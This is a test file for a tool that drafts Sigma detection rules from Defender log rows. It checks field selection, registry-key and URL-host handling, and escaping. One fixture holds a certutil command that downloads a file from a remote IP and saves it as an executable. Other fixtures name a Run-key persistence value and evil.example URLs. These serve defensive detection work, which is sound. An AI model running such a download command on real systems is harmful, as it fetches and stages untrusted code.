import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { assumedContext } from '../../../src/rules/assumed-context.ts';
import { compileProgram } from '../../../src/rules/compile.ts';
import { draftRule } from '../../../src/rules/draft/draft.ts';
import { findTable, shippedSchema, type TableSchema } from '../../../src/rules/schema/index.ts';
import { viewRecord } from '../../../src/rules/sigma/index.ts';
import type { JsonObject } from '../../../src/shared/json.ts';
import { runs } from '../../support/runs.ts';
import { randomRow } from '../shapes/random-rows.ts';

const ID = '7d0d6a1e-0f3c-4c55-9a55-2b8d1f6f2a10';

function tableOf(name: string): TableSchema {
  const schema = findTable(name);
  if (!schema) throw new Error(name);
  return schema;
}

function draftOf(table: string, row: JsonObject) {
  return draftRule({ schema: tableOf(table), row, id: ID, date: '2026-11-27' });
}

/** Compiles a draft and says what is wrong with it: a mistake, or that it does not match its row and the row of its test. */
function wrongWith(table: string, row: JsonObject, severities: readonly string[]): readonly string[] {
  const draft = draftOf(table, row);
  if (!draft) return [];
  const files = [{ path: 'detections/draft.yml', text: draft.rule }];
  const { compiledRules, diagnostics } = compileProgram(files, assumedContext(files));
  const [rule] = compiledRules;
  const found = diagnostics
    // What is so of the row, and what the draft's author is to see: an ActionType that the schema does not know yet, a `*` that is no wildcard.
    .filter(({ code }) => code !== 'unknown-action-type' && code !== 'escaped-wildcard')
    .filter(({ severity }) => severities.includes(severity))
    .map(({ message }) => message);
  if (!rule) return [...found, draft.rule];
  const misses = [row, draft.row].filter((one) => !rule.detection.matches(viewRecord(one, rule.sources)));
  return [...found, ...misses.map((one) => `${draft.rule}\ndoes not match\n${JSON.stringify(one)}`)];
}

describe('a draft', () => {
  it('asks for what happened, and not for who, when and where', () => {
    const row = {
      Timestamp: '2026-11-27T09:00:00Z',
      DeviceName: 'pc-1',
      AccountName: 'ann',
      ActionType: 'ProcessCreated',
      FileName: 'certutil.exe',
      FolderPath: 'C:\\Windows\\System32\\certutil.exe',
      ProcessCommandLine: 'certutil.exe -urlcache -split -f http://203.0.113.9/a.txt C:\\Users\\ann\\a.exe',
      InitiatingProcessFileName: 'cmd.exe',
      SHA256: 'ab'.repeat(32),
    };
    const draft = draftOf('DeviceProcessEvents', row);
    expect(draft?.rule).toBe(`title: DeviceProcessEvents ProcessCreated certutil.exe cmd.exe
id: ${ID}
status: experimental
description: >-
  Drafted from a row of DeviceProcessEvents. Say here what the rule detects, and why that matters.
author: Who can be asked about the rule
date: 2026-11-27
# ATT&CK, such as attack.execution and attack.t1059.001:
tags: []
logsource:
  product: m365defender
  service: DeviceProcessEvents
detection:
  selection:
    ActionType: ProcessCreated
    FileName: certutil.exe
    ProcessCommandLine|contains|all:
      - -urlcache
      - -split
    InitiatingProcessFileName: cmd.exe
    # The row also has these, which change sooner:
    # FolderPath: "C:\\\\Windows\\\\System32\\\\certutil.exe"
    # SHA256: "${'ab'.repeat(32)}"
  condition: selection
falsepositives:
  - Not known yet
level: medium
`);
    expect(Object.keys(draft?.row ?? {})).toEqual([
      'ActionType',
      'FileName',
      'ProcessCommandLine',
      'InitiatingProcessFileName',
    ]);
  });

  it('compares the end of a registry key, behind the hive and the user', () => {
    const draft = draftOf('DeviceRegistryEvents', {
      ActionType: 'RegistryValueSet',
      RegistryKey:
        'HKEY_CURRENT_USER\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      RegistryValueName: 'evil*',
    });
    expect(draft?.rule).toContain(
      '    RegistryKey|endswith: \\Software\\Microsoft\\Windows\\CurrentVersion\\Run\n',
    );
    expect(draft?.rule).toContain('    RegistryValueName: evil\\*\n');
  });

  it.each([
    ['http://bob:secret@evil.example:80/x', 'evil.example'],
    ['https://a@b@evil.example', 'evil.example'],
    ['http://[2001:db8::1]:80/x', '"[2001:db8::1]"'],
    ['evil.example/a', 'evil.example/a'],
    [`${'a'.repeat(199)}\u{1f600}b`, 'a'.repeat(199)],
  ])('looks for the host of %j, and for no name of a user or half of a character', (RemoteUrl, host) => {
    const rule = draftOf('DeviceNetworkEvents', { ActionType: 'ConnectionSuccess', RemoteUrl })?.rule;
    expect(rule).toContain(`    RemoteUrl|contains: ${host}\n`);
  });

  it('is not made of a row that holds nothing to compare', () => {
    expect(draftOf('DeviceEvents', {})).toBeUndefined();
    expect(draftOf('DeviceEvents', { ActionType: '', FileName: null, ProcessId: 1.5 })).toBeUndefined();
  });

  it('compiles without a finding and matches its row, whatever table the row is of', () => {
    const property = fc
      .constantFrom(...shippedSchema.tableNames)
      .chain((table) => fc.record({ table: fc.constant(table), row: randomRow(tableOf(table)) }));
    fc.assert(
      fc.property(property, ({ table, row }) => {
        expect(wrongWith(table, row, ['error', 'warning'])).toEqual([]);
      }),
      { numRuns: runs(50) },
    );
  });

  it('means the text of a value, whatever Sigma and YAML make of it', () => {
    const piece = fc.constantFrom(
      '\\', '*', '?', '\\*', "'", '"', ': ', ' #', '- ', '{', '}', '[', '&', '!', '%', '@', '`', '|', '>', 'a', 'null', 'true', '1', '0x1', '~', ',', 'é', '\u2028', '\u202e', '😀', '\n', '\t', 'HKEY_CURRENT_USER\\', '.exe', '=', 'http://', ' ', 'Enc', '-', '/c',
    ); // biome-ignore format: one list
    const text = fc.array(piece, { minLength: 1, maxLength: 6 }).map((pieces) => pieces.join(''));
    const row = fc.record({
      ActionType: text,
      FileName: text,
      ProcessCommandLine: text,
      RegistryKey: text,
      RegistryValueName: text,
      RemoteUrl: text,
      SHA256: text,
    });
    fc.assert(
      fc.property(
        fc.constantFrom('DeviceEvents', 'DeviceRegistryEvents', 'DeviceProcessEvents'),
        row,
        (table, one) => {
          expect(wrongWith(table, one, ['error'])).toEqual([]);
        },
      ),
      { numRuns: runs(100) },
    );
  });
});
